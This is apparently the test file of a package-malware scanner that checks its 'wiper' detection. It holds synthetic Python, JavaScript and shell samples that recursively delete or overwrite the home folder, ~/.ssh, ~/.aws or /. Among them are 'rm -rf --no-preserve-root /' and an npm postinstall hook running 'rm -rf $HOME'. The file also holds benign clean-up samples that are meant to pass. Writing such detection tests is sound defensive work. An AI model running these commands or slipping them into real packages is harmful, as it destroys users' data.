"""Wipers: a walk that starts at the home folder (or /) and deletes or overwrites files.

Small synthetic snippets (no real malware); nothing is run.
"""

from __future__ import annotations

import pytest

from analyzer.detect.static.scan import SignalKind, StaticSignal, scan_package
from analyzer.models import Ecosystem


def scan(path: str, body: str) -> list[StaticSignal]:
    ecosystem = Ecosystem.NPM if path.startswith("package/") else Ecosystem.PYPI
    return list(scan_package([(path, body.encode())], ecosystem))


def wipes(path: str, body: str) -> list[str]:
    return [s.detail for s in scan(path, body) if s.kind is SignalKind.WIPER]


PY = "pkg-1.0/pkg/_cache.py"
JS = "package/lib/rotate.js"

_PY_PARAM = """
import os
def _fill(root):
    for base, dirs, files in os.walk(root):
        for name in files:
            with open(os.path.join(base, name), "w") as f:
                f.write("x")
def _maybe():
    _fill(os.path.expanduser("~"))
"""
_PY_RGLOB = """
from pathlib import Path
def prune():
    for p in Path.home().rglob("*"):
        if p.is_file():
            p.unlink()
"""
_PY_COMPREHENSION = """
import os, glob
[os.remove(p) for p in glob.glob(os.environ["HOME"] + "/**/*", recursive=True)]
"""
_PY_TARGETS = """
import os, shutil
HOME = os.path.expanduser("~")
for target in ("Documents", "Desktop", ".ssh"):
    shutil.rmtree(os.path.join(HOME, target), ignore_errors=True)
"""
_PY_RECURSIVE_LISTDIR = """
import os
def shred(d):
    for n in os.listdir(d):
        p = os.path.join(d, n)
        if os.path.isdir(p):
            shred(p)
        else:
            os.remove(p)
shred("/")
"""
_JS_HOME = """
const fs = require('fs');
const path = require('path');
function r(dir, depth) {
  for (const n of fs.readdirSync(dir)) {
    const f = path.join(dir, n);
    if (fs.statSync(f).isDirectory()) r(f, depth + 1);
    else fs.writeFileSync(f, '');
  }
}
r(require('os').homedir(), 0);
"""
_JS_TARGETS = """
const fs = require('fs'), os = require('os'), path = require('path');
const TARGETS = ['projects', 'Documents', '.aws'];
const purge = (dir) => {
  for (const d of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, d.name);
    if (d.isDirectory()) { purge(p); } else { fs.unlinkSync(p); }
  }
};
const home = os.homedir();
for (const t of TARGETS) purge(path.join(home, t));
"""
_JS_RMSYNC = """
const fs = require('fs');
const home = process.env.HOME;
fs.rmSync(home, { recursive: true, force: true });
"""


@pytest.mark.parametrize(
    ("path", "body", "where"),
    [
        (PY, _PY_PARAM, "walks ~"),
        (PY, _PY_RGLOB, "walks ~"),
        (PY, _PY_COMPREHENSION, "walks ~"),
        (PY, _PY_TARGETS, "rmtree of ~/Documents"),
        (PY, _PY_RECURSIVE_LISTDIR, "walks /"),
        (JS, _JS_HOME, "r() walks ~"),
        (JS, _JS_TARGETS, "purge() walks ~/projects"),
        (JS, _JS_RMSYNC, "recursive delete of ~"),
        ("pkg-1.0/scripts/post.sh", "rm -rf ~/\n", "rm -r of the home folder"),
        (PY, "import os\nos.system('rm -rf --no-preserve-root /')\n", "rm -r of the home"),
        ("package/package.json", '{"name": "x", "scripts": {"postinstall": "rm -rf $HOME"}}',
         "rm -r of the home"),
    ],  # fmt: skip
    ids=["py-param", "py-rglob", "py-comprehension", "py-rmtree-targets", "py-listdir-root",
         "js-recursive-home", "js-home-targets", "js-rmsync", "sh-rm", "py-system-rm",
         "npm-script-rm"],  # fmt: skip
)
def test_wipe_of_home_or_root(path: str, body: str, where: str) -> None:
    found = wipes(path, body)
    assert len(found) == 1 and found[0].startswith(where), found


_PY_TEST_CLEANUP = """
import os, shutil, tempfile
def teardown_module():
    tmp = tempfile.mkdtemp()
    for root, dirs, files in os.walk(tmp):
        for name in files:
            os.remove(os.path.join(root, name))
    shutil.rmtree(tmp)
"""
_PY_BUILD_CLEAN = """
import os, shutil
from pathlib import Path
build_dir = os.path.join(os.path.dirname(__file__), "build")
shutil.rmtree(build_dir, ignore_errors=True)
for p in Path("dist").rglob("*.pyc"):
    p.unlink()
cache = Path.home() / ".cache" / "pkg"
for p in cache.rglob("*"):
    p.unlink()
shutil.rmtree(os.path.join(os.path.expanduser("~"), ".pkg"))
"""
# Reading the home folder is not wiping it (it may be a stealer, but not this signal).
_PY_READ_HOME = """
import os
for base, dirs, files in os.walk(os.path.expanduser("~")):
    for name in files:
        with open(os.path.join(base, name)) as f:
            index(f.read())
"""
# Uninstall clean-up of the tool's own dot-folders in the home folder.
_PY_OWN_DOTFOLDERS = """
import os, shutil
home = os.path.expanduser("~")
for name in (".pkgrc.d", ".cache/pkg"):
    shutil.rmtree(os.path.join(home, name), ignore_errors=True)
"""
_JS_CACHE_CLEAN = """
const fs = require('fs'), os = require('os'), path = require('path');
function clean(dir) {
  for (const n of fs.readdirSync(dir)) {
    const p = path.join(dir, n);
    if (fs.statSync(p).isDirectory()) clean(p); else fs.unlinkSync(p);
  }
}
clean(path.join(os.homedir(), '.cache', 'my-tool'));
clean(path.join(__dirname, 'build'));
fs.rmSync(path.join(os.tmpdir(), 'x'), { recursive: true });
"""
_PY_WARNING = """
def rm(path):
    if path in ("/", "~"):
        raise ValueError("refusing to rm -rf / or the home folder")
"""


@pytest.mark.parametrize(
    ("path", "body"),
    [(PY, _PY_TEST_CLEANUP), (PY, _PY_BUILD_CLEAN), (PY, _PY_READ_HOME),
     (PY, _PY_OWN_DOTFOLDERS), (JS, _JS_CACHE_CLEAN), (PY, _PY_WARNING)],  # fmt: skip
    ids=["test-cleanup", "build-and-cache", "read-home", "own-dotfolders", "js-cache", "message"],
)
def test_clean_up_of_own_folders_is_quiet(path: str, body: str) -> None:
    assert wipes(path, body) == []
